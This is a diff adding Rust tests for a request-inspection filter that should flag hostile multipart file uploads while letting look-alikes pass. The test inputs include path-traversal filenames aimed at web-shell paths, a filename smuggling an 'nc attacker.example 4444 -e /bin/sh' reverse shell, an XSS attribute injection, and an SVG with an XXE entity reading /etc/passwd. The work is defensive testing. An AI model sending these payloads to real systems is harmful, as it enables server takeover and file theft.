@@ -187,6 +187,58 @@ async fn attacks_anywhere_in_the_request_are_refused_and_look_alikes_pass() {
             b"--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=shift_jis\r\n\r\nhello\r\n--XyZ--\r\n",
             Some(Reason::UnsupportedMediaType),
         ),
+        // A file name the parser refuses: an attack in it is the finding, a name that is
+        // only unsafe for a file system stays unprocessable.
+        (
+            "/plans",
+            &[("content-type", "multipart/form-data; boundary=XyZ")],
+            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../../var/www/html/shell.php\"\r\n\r\nGIF89a;\r\n--XyZ--\r\n",
+            Some(Reason::AttackDetected),
+        ),
+        (
+            "/plans",
+            &[("content-type", "multipart/form-data; boundary=XyZ")],
+            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg|nc attacker.example 4444 -e /bin/sh\"\r\n\r\nx\r\n--XyZ--\r\n",
+            Some(Reason::AttackDetected),
+        ),
+        (
+            "/plans",
+            &[("content-type", "multipart/form-data; boundary=XyZ")],
+            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x\" onfocus=\"alert(1)\" autofocus=\".jpg\"\r\n\r\nx\r\n--XyZ--\r\n",
+            Some(Reason::AttackDetected),
+        ),
+        (
+            "/plans",
+            &[("content-type", "multipart/form-data; boundary=XyZ")],
+            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename*=UTF-8''..%2F..%2Fopt%2Ftomcat%2Fwebapps%2FROOT%2Fcmd.jsp\r\n\r\nx\r\n--XyZ--\r\n",
+            Some(Reason::AttackDetected),
+        ),
+        (
+            "/plans",
+            &[("content-type", "multipart/form-data; boundary=XyZ")],
+            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"reports/2024/q3 summary.pdf\"\r\n\r\nx\r\n--XyZ--\r\n",
+            Some(Reason::UnprocessableContent),
+        ),
+        (
+            "/plans",
+            &[("content-type", "multipart/form-data; boundary=XyZ")],
+            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"C:\\Users\\Anna\\Pictures\\holiday.jpg\"\r\n\r\nx\r\n--XyZ--\r\n",
+            Some(Reason::BadRequest),
+        ),
+        // An uploaded SVG that declares an external entity; a drawing program's SVG
+        // with its public DTD and text entities passes.
+        (
+            "/plans",
+            &[("content-type", "multipart/form-data; boundary=XyZ")],
+            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&xxe;</text></svg>\r\n--XyZ--\r\n",
+            Some(Reason::AttackDetected),
+        ),
+        (
+            "/plans",
+            &[("content-type", "multipart/form-data; boundary=XyZ")],
+            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"logo.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">]><svg xmlns=\"&ns_svg;\"><path d=\"M0 0h24v24H0z\"/></svg>\r\n--XyZ--\r\n",
+            None,
+        ),
         // A form value whose character references were cut apart at their `&`.
         (
             "/plans",
@@ -279,6 +331,19 @@ async fn a_compressed_attack_is_found_and_the_backend_gets_what_was_inspected() 
     let cleared = got.decision.unwrap();
     assert!(!cleared.decoded);
     assert_eq!(&cleared.body[..], &clean[..]);
+}
+
+#[test]
+fn file_names_are_read_from_dispositions_as_lenient_backends_read_them() {
+    let body = "--b\r\nContent-Disposition: form-data; name=\"a\"; filename=\"x\" onfocus=\"y\".jpg\"\r\n\r\n1\r\n\
+                --b\r\ncontent-disposition: form-data; name=\"c\"; FILENAME = plain.txt; size=3\r\n\r\n2\r\n\
+                --b\r\nContent-Disposition: form-data; name=\"d\"; filename*=UTF-8'en'%2e%2e%2fa.jsp\r\n\r\n3\r\n\
+                --b\r\nContent-Disposition: form-data; name=\"filename\"\r\n\r\nfilename=\"not a header\"\r\n--b--\r\n";
+    assert_eq!(
+        part_file_names(body),
+        ["x\" onfocus=\"y\".jpg", "plain.txt", "%2e%2e%2fa.jsp"]
+    );
+    assert!(part_file_names("filename=\"a\"").is_empty());
 }
 
 #[test]
